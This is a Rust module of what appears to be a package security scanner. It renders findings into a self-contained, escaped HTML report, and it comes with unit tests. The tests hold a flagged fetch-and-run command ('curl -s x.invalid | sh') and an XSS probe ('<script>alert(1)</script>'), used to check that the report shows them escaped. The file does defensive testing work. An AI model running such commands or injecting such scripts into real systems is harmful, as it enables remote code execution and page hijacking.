//! HTML: one self-contained page that prints well. No scripts, no requests; every byte from a package is escaped by
//! the template engine's output hook, so that no template can forget it.

use crate::phrases::Phrase;
use crate::{FindingView, Options, Render, View};
use minijinja::{Environment, HtmlEscape, UndefinedBehavior, Value, context, escape_formatter};
use model::{Confidence, Engine, Excerpt, Lang, PolicyReport, RiskLevel, Severity, Summary, visible};
use std::io::{self, Write};

/// Findings of one unit that are shown in full; the rest is counted. The JSON report has them all.
const MOST_FINDINGS: usize = 200;
/// Units with a section of their own; all are in the table.
const MOST_SECTIONS: usize = 500;

/// Writes the HTML report. The overview comes first, so rendered sections are kept until the end.
pub(crate) struct Renderer {
    options: Options,
    environment: Environment<'static>,
    /// The lines of the overview.
    index: Vec<Value>,
    /// Path of the first unit, for the page's title.
    first: String,
    sections: Vec<String>,
    policy: PolicyReport,
}

impl Renderer {
    pub(crate) fn new(options: Options) -> Self {
        Self {
            options,
            environment: environment(),
            index: Vec::new(),
            first: String::new(),
            sections: Vec::new(),
            policy: PolicyReport::default(),
        }
    }
}

impl Render for Renderer {
    fn begin(&mut self, _out: &mut dyn Write) -> io::Result<()> {
        Ok(())
    }

    fn unit(&mut self, _out: &mut dyn Write, view: &View<'_>) -> io::Result<()> {
        let verdict = &view.scan.verdict;
        let quiet = self.options.many && verdict.risk_level == RiskLevel::Benign && view.suppressed.is_empty();
        let linked = !quiet && self.sections.len() < MOST_SECTIONS;
        let number = self.index.len() + 1;
        if number == 1 {
            view.path.clone_into(&mut self.first);
        }
        self.index.push(context! {
            number, linked, path => view.path, level => verdict.risk_level.id(),
            level_name => level_name(verdict.risk_level, view.lang), score => verdict.security_score,
            top => view.findings.first().map_or("", |shown| shown.title), complete => view.complete(),
        });
        if linked {
            let section = self.render("unit.html", unit(view, number))?;
            self.sections.push(section);
        }
        Ok(())
    }

    fn policy(&mut self, report: PolicyReport) {
        self.policy = report;
    }

    fn end(&mut self, out: &mut dyn Write, summary: &Summary) -> io::Result<()> {
        let lang = self.options.lang;
        let sections: Vec<Value> = self.sections.drain(..).map(Value::from_safe_string).collect();
        let page = self.render(
            "page.html",
            context! {
                lang => tag(lang), words => words(lang), summary => counts(summary), sections,
                index => &self.index, many => self.options.many, engine_version => self.options.engine_version,
                policy_notes => self.policy.notes.iter().map(|note| context! {
                    place => &note.place, text => note.text.get(lang),
                }).collect::<Vec<_>>(),
                version => env!("CARGO_PKG_VERSION"), title => (!self.options.many).then_some(self.first.as_str()),
                levels => [RiskLevel::Malicious, RiskLevel::Suspicious, RiskLevel::Benign]
                    .map(|level| level_name(level, lang)).to_vec(),
            },
        )?;
        out.write_all(page.as_bytes())
    }
}

impl Renderer {
    fn render(&self, template: &str, context: Value) -> io::Result<String> {
        self.environment.get_template(template).and_then(|found| found.render(context)).map_err(io::Error::other)
    }
}

pub(crate) fn environment() -> Environment<'static> {
    let mut environment = Environment::new();
    environment.set_undefined_behavior(UndefinedBehavior::Strict);
    environment.set_formatter(|out, state, value| match value.as_str() {
        Some(text) if !value.is_safe() => escape_formatter(out, state, &Value::from(visible(text).as_ref())),
        _ => escape_formatter(out, state, value),
    });
    environment.add_filter("prose", |text: &str| Value::from_safe_string(prose(text)));
    let style = include_str!("../assets/report.css");
    environment.add_global("style", Value::from_safe_string(style.to_owned()));
    for (name, source) in
        [("page.html", include_str!("../assets/page.html")), ("unit.html", include_str!("../assets/unit.html"))]
    {
        // A template that does not parse is found missing when it is rendered; a test renders both.
        let _ = environment.add_template(name, source);
    }
    environment
}

/// Text as HTML, its hostile characters made visible.
pub(crate) fn escape(text: &str) -> String {
    HtmlEscape(&visible(text)).to_string()
}

/// A sentence as HTML: what stands between back quotes is code.
fn prose(text: &str) -> String {
    let parts: Vec<&str> = text.split('`').collect();
    // An odd quote is only a quote.
    let paired = parts.len() % 2 == 1;
    let mut html = String::with_capacity(text.len() + 32);
    for (index, part) in parts.into_iter().enumerate() {
        let escaped = HtmlEscape(&visible(part)).to_string();
        match (index % 2, paired) {
            (1, true) => html.push_str(&format!("<code>{escaped}</code>")),
            (_, false) if index > 0 => html.push_str(&format!("`{escaped}")),
            _ => html.push_str(&escaped),
        }
    }
    html
}

fn unit(view: &View<'_>, number: usize) -> Value {
    let scan = view.scan;
    let verdict = &scan.verdict;
    let lang = view.lang;
    let severities = [Severity::Critical, Severity::High, Severity::Medium, Severity::Low, Severity::Info];
    let shown: Vec<&FindingView<'_>> = view.findings.iter().take(MOST_FINDINGS).collect();
    let group = |severity: Severity| {
        let findings: Vec<Value> =
            shown.iter().filter(|f| f.finding.severity == severity).map(|f| finding(f, lang)).collect();
        (!findings.is_empty()).then(|| {
            context! { id => id(severity), name => severity.name().get(lang), findings }
        })
    };
    let primary = view.primary().map(|category| context! { id => category.id(), name => category.name().get(lang) });
    context! {
        number, lang => tag(lang), words => words(lang), path => view.path, name => &scan.name,
        description => &scan.description, level => verdict.risk_level.id(),
        level_name => level_name(verdict.risk_level, lang), score => verdict.security_score,
        summary => verdict.description.get(lang), mitigation => verdict.mitigation.get(lang), primary,
        files => scan.file_count, content_hash => &scan.content_hash, complete => view.complete(),
        analysed => bytes(scan.coverage.analysed_bytes), inert => bytes(scan.coverage.inert_bytes),
        count => view.findings.len(), left_out => view.findings.len() - shown.len(),
        groups => severities.into_iter().filter_map(group).collect::<Vec<_>>(),
        demoted => view.hidden(), known => view.known,
        without => view.without.map(|level| level_name(level, lang)),
        suppressed => view.suppressed.iter().filter_map(|shown| shown.suppression.map(|by| context! {
            title => shown.title, rule_id => &shown.finding.rule_id, place => place(&shown.finding.location),
            severity => shown.finding.severity.name().get(lang), reason => &by.reason, owner => &by.owner,
            expires => &by.expires, source => &by.source,
        })).collect::<Vec<_>>(),
        judge => view.judge().map(|(text, _)| text),
        judge_incomplete => view.judge().is_some_and(|(_, complete)| !complete),
        gaps => view.not_analysed.iter().map(|gap| context! {
            path => if gap.path.is_empty() { view.path } else { gap.path }, reason => &gap.reason,
        }).collect::<Vec<_>>(),
        capabilities => scan.capabilities.iter().map(|evidence| context! {
            id => evidence.capability.id(), name => evidence.capability.name().get(lang),
            place => place(&evidence.location),
        }).collect::<Vec<_>>(),
    }
}

fn finding(shown: &FindingView<'_>, lang: Lang) -> Value {
    let finding = shown.finding;
    let (before, marked, after) = split(&finding.snippet);
    let steps: Vec<Value> = finding
        .steps
        .iter()
        .map(|step| context! { place => place(&step.location), what => step.what.get(lang) })
        .collect();
    let links: Vec<Value> =
        shown.references.iter().map(|text| context! { text, url => text.starts_with("https://") }).collect();
    context! {
        rule_id => &finding.rule_id, title => shown.title, message => shown.message, why => shown.why, fix => shown.fix,
        category => finding.category.name().get(lang), engine => engine(finding.engine, lang), confidence => confidence(finding.confidence, lang),
        place => place(&finding.location), line => finding.location.line, before, marked, after, steps,
        references => links, demoted => finding.demoted.as_ref().map(|demotion| demotion.reason.get(lang)),
    }
}

fn split(excerpt: &Excerpt) -> (String, String, String) {
    let mark = excerpt.mark.start as usize..excerpt.mark.end as usize;
    let chars = || excerpt.text.chars();
    (
        chars().take(mark.start).collect(),
        chars().skip(mark.start).take(mark.len()).collect(),
        chars().skip(mark.end.max(mark.start)).collect(),
    )
}

fn place(location: &model::Location) -> String {
    match location.line {
        0 => location.file.clone(),
        line => format!("{}:{line}", location.file),
    }
}

fn id(severity: Severity) -> &'static str {
    match severity {
        Severity::Critical => "critical",
        Severity::High => "high",
        Severity::Medium => "medium",
        Severity::Low => "low",
        Severity::Info => "info",
    }
}

fn level_name(level: RiskLevel, lang: Lang) -> &'static str {
    match (level, lang) {
        (RiskLevel::Malicious, Lang::En) => "Malicious",
        (RiskLevel::Suspicious, Lang::En) => "Suspicious",
        (RiskLevel::Benign, Lang::En) => "Benign",
        (RiskLevel::Malicious, Lang::Zh) => "恶意",
        (RiskLevel::Suspicious, Lang::Zh) => "可疑",
        (RiskLevel::Benign, Lang::Zh) => "可信",
    }
}

fn bytes(count: u64) -> String {
    match count {
        0..1024 => format!("{count} B"),
        1024..1_048_576 => format!("{}.{} KiB", count >> 10, ((count & 1023) * 10) >> 10),
        _ => format!("{}.{} MiB", count >> 20, ((count & 1_048_575) * 10) >> 20),
    }
}

pub(crate) fn tag(lang: Lang) -> &'static str {
    match lang {
        Lang::En => "en",
        Lang::Zh => "zh-CN",
    }
}

fn counts(summary: &Summary) -> Value {
    let Summary { skills, malicious, suspicious, benign, incomplete, .. } = *summary;
    context! { skills, malicious, suspicious, benign, incomplete }
}

fn confidence(confidence: Confidence, lang: Lang) -> &'static str {
    match confidence {
        Confidence::Low => Phrase::ConfidenceLow.get(lang),
        Confidence::Medium => Phrase::ConfidenceMedium.get(lang),
        Confidence::High => Phrase::ConfidenceHigh.get(lang),
    }
}

fn engine(engine: Engine, lang: Lang) -> &'static str {
    match engine {
        Engine::Static => Phrase::StaticEngine.get(lang),
        Engine::Ai => Phrase::AiEngine.get(lang),
    }
}

/// The fixed words of the page, by name.
fn words(lang: Lang) -> Value {
    Value::from_pairs(Phrase::ALL.iter().map(|phrase| (phrase.key(), phrase.get(lang))))
}

#[cfg(test)]
mod tests {
    use crate::phrases::Phrase;
    use crate::sample::{HOSTILE, render, scan};
    use crate::{Format, Options};
    use model::Lang;

    #[test]
    fn the_page_is_complete_and_self_contained() {
        for (lang, word) in [(Lang::En, "Malicious"), (Lang::Zh, "恶意")] {
            let page = render(Format::Html, "skills/x", &scan(), &Options { lang, ..Options::default() });
            for part in [
                "<!doctype html>",
                "</html>",
                word,
                "TS-RCE-001",
                "<mark>curl -s x.invalid | sh</mark>",
                "setup.sh:12",
                Phrase::Footnote.get(lang),
                Phrase::First.get(lang),
            ] {
                assert!(page.contains(part), "{part}");
            }
            for outside in ["<script", "<link", "<img", "@import", "url(", "src="] {
                assert!(!page.contains(outside), "{outside}");
            }
        }
    }

    #[test]
    fn quoted_code_is_code_and_still_text() {
        let check = |text: &str, html: &str| assert_eq!(super::prose(text), html);
        check("run `a < b` now", "run <code>a &lt; b</code> now");
        check("an odd ` quote", "an odd ` quote");
        check("`<b>\u{202e}", "`&lt;b&gt;\\u{202e}");
    }

    #[test]
    fn hostile_attributes_and_tags_are_text() {
        let page = render(Format::Html, HOSTILE, &scan(), &Options { show_demoted: true, ..Options::default() });
        assert!(page.contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt;"), "escaped, not dropped");
        let (_, body) = page.split_once("</style>").unwrap();
        assert_eq!(body.matches('<').count(), body.matches('>').count(), "no tag but our own");
    }
}
